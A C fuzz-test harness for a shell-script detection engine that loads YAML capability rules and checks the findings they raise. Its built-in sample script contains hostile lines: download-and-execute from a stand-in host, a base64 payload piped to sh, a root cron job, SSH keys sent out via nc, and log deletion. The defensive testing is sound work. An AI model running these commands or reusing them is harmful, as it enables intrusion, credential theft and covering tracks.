/* Claims of detect/capability/rule.h: a rule that is accepted alone is accepted in a set,
 * judges scripts within the steps that their size allows, and what it raises says what and
 * where; a rule that is refused is refused with a reason. */
#include "parsing.h"

#include "codec/yaml.h"
#include "detect/capability/rule_set.h"
#include "detect/engine.h"
#include "parse/script/shell.h"

#define MEMORY_MAX (128U << 20)
#define IMAGE_MAX (16U << 20)

/* A bit of everything that rules ask for. */
static const char script[] =
    "#!/bin/sh\n"
    "A=1 B='x y' export C\n"
    "curl -fsS -o /tmp/x http://192.0.2.7/x && chmod +x /tmp/x && /tmp/x &\n"
    "wget -qO- http://192.0.2.7/y | base64 -d | sh\n"
    "while true; do ( echo \"$(id)\" >> /var/log/z ) | tee -a z; sleep 60; done\n"
    "for f in a b; do cat <<E | sudo tee /etc/cron.d/q >/dev/null\n* * * * * root "
    "/tmp/x\nE\ndone\n"
    "if [ -f ~/.ssh/id ]; then tar c ~/.ssh | nc 192.0.2.9 9; fi; rm -rf /var/log/*.log\n";

static enum status make_engine(const struct tree *tree, struct text *image,
                               struct bundle *bundle, struct arena *arena,
                               const struct engine **out)
{
    struct text AUTO(text_done) written = text_of_limit(IMAGE_MAX);
    struct fault fault = {0};
    tree_write(&written, tree);
    struct bundle_entry entry = {BYTES_LITERAL("capabilities/a.yaml"), text_bytes(&written)};
    CLAIM(bundle_write(image, &entry, 1) == STATUS_OK);
    CLAIM(bundle_read(text_bytes(image), bundle, &fault) == STATUS_OK);
    return engine_load(&(struct engine_supply){.content = bundle}, arena, out, &fault);
}

static void judge(const struct engine *engine, struct bytes text, struct arena *arena)
{
    struct parsing parsing;
    struct detection detection;
    struct analysis_options options = {0};
    struct examination *examination = arena_take(arena, sizeof *examination);
    coverage_init(&examination->coverage, arena);
    parsing_open(&parsing, text, "run.sh", detection_take, &detection);
    parsing.parse.coverage = &examination->coverage;
    CLAIM(detection_open(engine, &options, parsing.evidence, arena, examination, &detection) ==
          STATUS_OK);
    CLAIM(parsing_run(&parsing, text, 0) == STATUS_OK);
    CLAIM(detection_finish(&detection) == STATUS_OK);
    for (size_t i = 0; i < examination->finding_count; i++) {
        const struct finding *finding = &examination->findings[i];
        CLAIM(finding->cite_count > 0 && finding->title.size > 0);
        CLAIM(finding->confidence >= 0 && finding->confidence <= 1);
    }
    parsing_close(&parsing);
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
    struct arena *AUTO(arena_done) arena = arena_new(MEMORY_MAX);
    struct tree tree;
    struct tree_fault fault = {0};
    if (tree_of_yaml((struct bytes){data, size}, arena, &tree, &fault) != STATUS_OK) {
        return 0;
    }
    fault = (struct tree_fault){0};
    if (capability_check(tree.nodes, &fault) != STATUS_OK) {
        CLAIM(fault.what != NULL);
        return 0;
    }
    struct text AUTO(text_done) image = text_of_limit(IMAGE_MAX);
    struct bundle bundle;
    const struct engine *engine = NULL;
    CLAIM(make_engine(&tree, &image, &bundle, arena, &engine) == STATUS_OK);
    judge(engine, bytes_of_text(script), arena);
    for (const struct tree_node *group = tree_first(tree_member(tree.nodes, "cases"));
         group != NULL; group = tree_next(tree_member(tree.nodes, "cases"), group)) {
        for (const struct tree_node *text = tree_first(group); text != NULL;
             text = tree_next(group, text)) {
            judge(engine, tree_text(text), arena);
        }
    }
    return 0;
}
